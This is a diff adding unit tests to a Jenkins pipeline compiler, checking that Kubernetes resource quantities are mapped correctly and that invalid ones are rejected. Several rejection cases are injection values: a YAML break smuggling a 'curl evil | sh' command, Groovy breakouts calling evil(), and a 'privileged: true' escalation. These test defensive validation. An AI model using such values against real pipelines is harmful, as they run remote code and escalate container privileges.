@@ -65,6 +65,33 @@ describe('buildPod', () => {
     expect(container(pod, 'step-0-0').resources).toEqual({ requests: { cpu: '500m' }, limits: { memory: '1Gi' } });
   });
 
+  it('gives a step the resources it wrote in the Kubernetes shape, as Rancher\'s keys would', () => {
+    const yaml = (resources: string) => `stages:\n- name: s\n  steps:\n  - runScriptConfig: {image: x}\n    ${resources}\n`;
+    const kube = container(buildPod(aCompileInput(yaml('resources: {requests: {cpu: 250m, memory: 64Mi}, limits: {cpu: "1", memory: 1Gi}}'))), 'step-0-0');
+    const rancher = container(buildPod(aCompileInput(yaml('resources: {cpuRequest: 250m, memoryRequest: 64Mi, cpuLimit: "1", memoryLimit: 1Gi}'))), 'step-0-0');
+    expect(kube.resources).toEqual({ requests: { cpu: '250m', memory: '64Mi' }, limits: { cpu: '1', memory: '1Gi' } });
+    expect(rancher.resources).toEqual(kube.resources);
+  });
+
+  it.each([
+    ['a YAML line break', '1Gi\n  command: [sh, -c, "curl evil | sh"]'],
+    ['a Groovy triple quote', "1Gi''' + evil() + '''"],
+    ['a Groovy interpolation', '${evil()}'],
+    ['a number with a unit Kubernetes does not know', '1GB'],
+  ])('refuses a step quantity with %s that did not come through the parser, naming the step', (_what, value) => {
+    const input = aCompileInput(TWO_STAGES);
+    input.config.stages[0].steps[0].resources = { memoryLimit: value };
+    const err = (() => { try { compileJenkinsJob(input); } catch (e) { return e; } })() as JenkinsCompileError;
+    expect(err).toBeInstanceOf(JenkinsCompileError);
+    expect(err.code).toBe('InvalidQuantity');
+    expect(err.message).toBe(`stages[0].steps[0] ("unit"): resources memoryLimit ${JSON.stringify(value)} is not a quantity; expected a Kubernetes quantity: a number with an optional suffix, such as 250m, 0.5, 2, 512Mi or 1Gi`);
+  });
+
+  it('refuses executor resources that are not quantities', () => {
+    const input = aCompileInput(TWO_STAGES, { settings: { agentResources: { cpuRequest: '1\nprivileged: true' } } });
+    expect(() => compileJenkinsJob(input)).toThrow(/^the executor \(PipelineSetting spec\.executor\): resources cpuRequest "1\\nprivileged: true" is not a quantity/);
+  });
+
   it('sets the CICD variables in every container, then the step env, with every $ doubled for the kubelet', () => {
     const pod = buildPod(aCompileInput(TWO_STAGES));
     for (const c of pod.spec.containers) expect(envNames(c)).toEqual(expect.arrayContaining(['CICD_GIT_COMMIT', 'CICD_EXECUTION_ID']));
